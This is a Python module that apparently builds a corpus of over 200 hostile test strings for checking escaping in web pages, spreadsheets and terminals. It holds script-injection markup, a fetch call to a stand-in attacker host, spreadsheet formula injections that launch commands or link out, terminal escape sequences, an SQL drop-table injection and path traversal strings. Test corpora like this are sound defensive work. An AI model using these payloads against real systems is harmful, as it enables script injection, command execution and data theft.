"""Strings of strangers that act where text is not taken for text: in pages, workbooks and terminals."""

from __future__ import annotations

from itertools import product
from typing import Final

_ACTS: Final = ("alert(1)", "self.taken=1", "fetch('//attacker.test')", "document.title='taken'")
_MARKUP: Final = (
    "<script>{}</script>",
    "</script><script>{}</script>",
    "<ScRiPt>{}</sCrIpT>",
    '<img src=x onerror="{}">',
    "<svg onload='{}'>",
    "<svg><script>{}</script></svg>",
    '<iframe src="javascript:{}"></iframe>',
    '<a href="javascript:{}">a</a>',
    '" onmouseover="{}" x="',
    "' onfocus='{}' autofocus x='",
    "</td></tr></table><b onclick={}>",
    "</title><script>{}</script>",
    "</textarea><script>{}</script>",
    "</style><script>{}</script>",
    "--><script>{}</script><!--",
    "]]><script>{}</script>",
    '<math href="javascript:{}">',
    "<details open ontoggle={}>",
    '<object data="javascript:{}">',
    "<body onload={}>",
    "<input autofocus onfocus={}>",
    '<meta http-equiv=refresh content="0;url=javascript:{}">',
    '<link rel=stylesheet href="javascript:{}">',
    '<base href="javascript:{}//">',
    '<form action="javascript:{}"><button>b',
    "{{{{{}}}}}",
    "{{% {} %}}",
    "${{{}}}",
    "`{}`",
    "javascript:{}",
    "&lt;script&gt;{}&lt;/script&gt;",
    "&#60;script&#62;{}",
    "\\u003cscript\\u003e{}",
    "<!--{}",
    "<?php {} ?>",
    "<style>*{{background:url('javascript:{}')}}</style>",
    "\u2028{}\u2029",
    '\\";{}//',
    "';{}//",
    "</script\n>{}",
)
_FORMULAS: Final = tuple(
    f"{lead}{rest}"
    for lead, rest in product(
        ("=", "+", "-", "@", "\t=", "\r=", " =", "\n=", "＝", "\ufeff="),
        ("1+1", 'HYPERLINK("http://attacker.test","a")', "cmd|'/c calc'!A0", "SUM(A1:A9)*cmd"),
    )
)
_CONTROLS: Final = (
    *("\x1b[31mred", "\x1b]0;title\x07", "\x1b[2J", "\x1b]8;;http://attacker.test\x07link\x1b]8;;\x07", "\x9b31m"),
    *("\x07bell", "\x08\x08back", "\rover", "\x00nul", "\x1bP+q544e\x1b\\", "\x1b[?1049h", "\x1b[6n", "a\nb", "a\x0bb"),
    *(
        "\u202eesrever",
        "\u2066isolate\u2069",
        "\u200bzero",
        "\ufeffmark",
        "\u00adsoft",
        "\U000e0041tag",
        "\ufffe",
        "\x7f",
    ),
    *(
        "\x85next",
        "\u061carabic",
        "e\u0301" * 50,
        "W" * 2000,
        "<" * 500,
        "&" * 500,
        "\ud7ff\ue000",
        "|pipe|",
        "**bold**",
    ),
    *("[a](javascript:alert(1))", "# head", "$$x$$", "'quote", '"quote', "'; DROP TABLE orders; --", "%s%n", "../../x"),
)

HOSTILE: Final = (*(form.format(act) for form, act in product(_MARKUP, _ACTS)), *_FORMULAS, *_CONTROLS)
"""At least 200 of them, each as valid JSON text can hold it."""
